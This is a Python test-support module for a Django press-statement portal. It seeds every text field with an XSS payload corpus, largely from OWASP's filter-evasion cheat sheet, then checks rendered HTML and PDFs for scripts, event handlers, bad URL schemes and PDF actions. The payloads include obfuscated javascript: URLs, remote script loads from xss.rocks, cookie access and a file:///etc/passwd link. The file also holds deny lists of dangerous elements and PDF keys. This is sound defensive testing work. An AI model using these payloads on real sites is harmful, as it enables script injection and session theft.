"""The XSS corpus: hostile text saved into every text field, and what "inert" means.

The payloads are mostly the examples of the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
plus breakouts aimed at our own templates (attributes, the JSON-LD block, comments),
markup that ReportLab's Paragraph would obey, and very long strings.

`save_corpus()` stores each payload in every CharField and TextField of an alliance,
an organisation, a press statement and a quote, each language's column included,
found through `_meta` rather than listed, and through each field's own validation as
the admin would: rich-text fields clean it, a URL field refuses what is not a URL (and
then keeps a harmless value). The statement's other parts link them all together.

`html_problems()` and `pdf_problems()` say what a parsed page or PDF does that
payloads must not make it do; the tests assert they say nothing.
"""

import json
import unicodedata
from dataclasses import dataclass
from datetime import timedelta

from django.core.exceptions import ValidationError
from django.db import models
from django.utils import timezone
from selectolax.lexbor import LexborHTMLParser

from alliance_portal.models import Alliance
from alliance_portal.publishing.models import Publishable
from members.models import Membership, Organisation
from statements.models import PressStatement, Quote

# Most payloads raise a dialog or set window.__xss when they run; the browser test
# listens for both.
PAYLOADS = [
    # <script> in its case and spacing variants
    "<script>alert('XSS')</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    '<SCRIPT SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "<<SCRIPT>prompt('XSS');//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '<script\x20type="text/javascript">window.__xss=1;</script>',
    # images and event handlers
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="window.__xss=1"></img>',
    "<svg/onload=alert('XSS')>",
    "<svg><script>window.__xss=1</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=alert(1)>",
    # javascript:, vbscript: and data: URLs, plain and obfuscated
    "<a href=\"javascript:alert('XSS')\">plain</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    "<a href=\"jav&#x09;ascript:alert('XSS');\">tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">newline</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">leading</a>",
    "<a href=\"jav\tascript:alert('XSS');\">raw tab</a>",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    "<a href=\"vbscript:msgbox('XSS')\">vbscript</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">data</a>',
    '<a href="https://example.org/" onclick="alert(1)" style="color:red">decorated</a>',
    # frames, objects, forms, base and meta refresh
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<form action="javascript:alert(1)">'
    '<button formaction="javascript:alert(2)">go</button></form>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    # style
    "<div style=\"background-image: url(javascript:alert('XSS'))\">style url</div>",
    "<div style=\"width: expression(alert('XSS'));\">expression</div>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    # breaking out of our own markup: elements, attributes, JSON-LD, comments
    "</script><script>window.__xss=1</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='alert(1)' autofocus='",
    "<!--<script>alert(1)</script>-->",
    "--><script>window.__xss=1</script><!--",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # a URL that passes URL validation and tries to leave the attribute
    'https://example.org/"><script>alert(1)</script>',
    # ReportLab's Paragraph markup
    '<a href="javascript:alert(1)">rl link</a> <link href="file:///etc/passwd">rl file</link>',
    '<font color="red" size="40" face="Courier">rl font</font> <img src="/etc/passwd"/>',
    "<b><i>unclosed rl &nbsp; &#0; &bogus; <br> <para> <onDraw name='x'/>",
    # very long: a long text with a script at its end, and one word longer than a line
    "Aluminium " * 2000 + "<script>alert('late')</script>",
    "X" * 5000 + "<img src=x onerror=alert(1)>",
    # characters a PDF's text may not hold, a right-to-left override, look-alike brackets
    "Steuer\x0bzeichen\x0c\x1b[31m <b>rot</b>\x7f",
    "\u202egnp.exe<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]

SEARCH_WORDS = ["alert", "script", "javascript"]

# The forms our templates write, by class: search, list filters, the alert subscription.
OUR_FORMS = {"search-page-form", "search-form", "filters", "alert-form"}
FORBIDDEN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "svg",
    "math",
}
FORM_CONTROLS = {"input", "button", "textarea", "select"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
HARMLESS_TEXT = "Harmloser Text"


@dataclass
class CorpusItem:
    payload: str
    alliance: Alliance
    organisation: Organisation
    statement: PressStatement
    quote: Quote


def text_fields(model):
    """Every concrete CharField and TextField, translation columns included."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, (models.CharField, models.TextField))
    ]


def fill_with(instance, payload):
    """Put the payload in every text field that accepts it, as validation decides."""
    for field in text_fields(type(instance)):
        value = payload[: field.max_length] if field.max_length else payload
        try:
            setattr(instance, field.attname, field.clean(value, instance))
        except ValidationError:
            # Slugs, URLs, e-mail addresses and choices refuse it: keep a valid value.
            if not getattr(instance, field.attname) and not field.blank:
                setattr(instance, field.attname, HARMLESS_TEXT)


def save_corpus(payloads=PAYLOADS):
    released = timezone.now() - timedelta(hours=1)
    items = []
    for number, payload in enumerate(payloads, start=1):
        alliance = Alliance(status=Publishable.Status.PUBLISHED, featured=True)
        fill_with(alliance, payload)
        alliance.slug = f"xss-{number}"
        alliance.save()
        organisation = Organisation(status=Publishable.Status.PUBLISHED, kind="company")
        fill_with(organisation, payload)
        organisation.slug = f"xss-org-{number}"
        organisation.save()
        Membership.objects.create(alliance=alliance, organisation=organisation)
        statement = PressStatement(
            alliance=alliance, status=Publishable.Status.PUBLISHED, published_at=released
        )
        fill_with(statement, payload)
        statement.slug = f"xss-statement-{number}"
        statement.save()
        statement.signatories.add(organisation)
        quote = Quote(statement=statement, organisation=organisation, position=1)
        fill_with(quote, payload)
        quote.save()
        items.append(CorpusItem(payload, alliance, organisation, statement, quote))
    return items


# --- What inert means ----------------------------------------------------------------


def _squeezed_url(value):
    """A URL as a browser reads its scheme: no whitespace or control characters, lower case."""
    return "".join(ch for ch in value if ord(ch) > 0x20 and ch != "\x7f").lower()


def element_problems(node, *, document):
    problems = []
    tag = node.tag
    attributes = node.attributes
    if tag == "script":
        kind = (attributes.get("type") or "").strip().lower()
        text = node.text(deep=True)
        if not document or kind != "application/ld+json":
            problems.append(f"<script type={kind!r}>: {text[:80]!r}")
        elif "</" in text or "<!--" in text:
            problems.append(f"JSON-LD that could close its element: {text[:80]!r}")
        else:
            try:
                json.loads(text)
            except ValueError as error:
                problems.append(f"JSON-LD that is not JSON ({error}): {text[:80]!r}")
    if tag in FORBIDDEN_ELEMENTS:
        problems.append(f"<{tag}> from content: {node.html[:100]!r}")
    if tag == "meta" and "http-equiv" in attributes:
        problems.append(f"<meta http-equiv>: {node.html[:100]!r}")
    if tag == "form" and not (document and _is_our_form(node)):
        problems.append(f"a form that is not ours: {node.html[:100]!r}")
    if tag in FORM_CONTROLS and not (document and _in_our_form(node)):
        problems.append(f"<{tag}> outside our forms: {node.html[:100]!r}")
    for name, value in attributes.items():
        name = name.lower()
        if name.startswith("on"):
            problems.append(f"event handler {name}= on <{tag}>: {value!r}")
        if name == "style":
            problems.append(f"style attribute on <{tag}>: {value!r}")
        if name in URL_ATTRIBUTES and _squeezed_url(value or "").startswith(BAD_SCHEMES):
            problems.append(f"{name}={value!r} on <{tag}>")
    return problems


def _is_our_form(node):
    return bool(set((node.attributes.get("class") or "").split()) & OUR_FORMS)


def _in_our_form(node):
    parent = node.parent
    while parent is not None:
        if parent.tag == "form":
            return _is_our_form(parent)
        parent = parent.parent
    return False


def html_problems(markup, *, document=True):
    """What in this HTML (a page, or a feed's description) could run or act."""
    tree = LexborHTMLParser(markup)
    problems = []
    for node in tree.root.traverse(include_text=False):
        if node.tag.startswith("-"):  # comments and the doctype
            continue
        problems += element_problems(node, document=document)
    return problems


# --- PDFs ------------------------------------------------------------------------------

PDF_ALLOWED_URI_SCHEMES = ("http://", "https://", "mailto:", "tel:")
PDF_FORBIDDEN_KEYS = {
    "/JavaScript",
    "/JS",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/RichMedia",
    "/AA",
    "/EmbeddedFile",
}


def pdf_problems(reader):
    """Actions a PDF reader could run: anything but links to allowed schemes."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    problems, seen = [], set()

    def visit(obj):
        if isinstance(obj, IndirectObject):
            key = (obj.idnum, obj.generation)
            if key in seen:
                return
            seen.add(key)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            for key, value in obj.items():
                if key in PDF_FORBIDDEN_KEYS:
                    problems.append(f"{key} in the PDF")
                if key == "/OpenAction" and not isinstance(value.get_object(), ArrayObject):
                    problems.append("an /OpenAction that is an action, not a page to show")
                if key == "/S" and value not in ("/URI", "/GoTo"):
                    problems.append(f"action {value}")
                if key == "/URI" and not str(value).lower().startswith(PDF_ALLOWED_URI_SCHEMES):
                    problems.append(f"link to {value!r}")
                if key != "/Parent":
                    visit(value)
        elif isinstance(obj, ArrayObject):
            for value in obj:
                visit(value)

    visit(reader.trailer)
    return problems


def comparable_text(text):
    """Text as pypdf gives it back and as we compare it: no whitespace or control
    characters (lines wrap, and the PDF leaves out characters XML forbids)."""
    return "".join(
        ch for ch in text if not ch.isspace() and unicodedata.category(ch) not in ("Cc", "Cf")
    )


def pdf_text(reader):
    return comparable_text("".join(page.extract_text() for page in reader.pages))


def as_pdf_shows_it(text):
    """`comparable_text` of what the PDF's font can show (DejaVu Sans has no glyphs
    for some characters, such as the full-width ＜ ＞)."""
    from reportlab.pdfbase import pdfmetrics

    from statements.pdf import FONT, register_fonts

    register_fonts()
    glyphs = pdfmetrics.getFont(FONT).face.charToGlyph
    return "".join(ch for ch in comparable_text(text) if ord(ch) in glyphs)
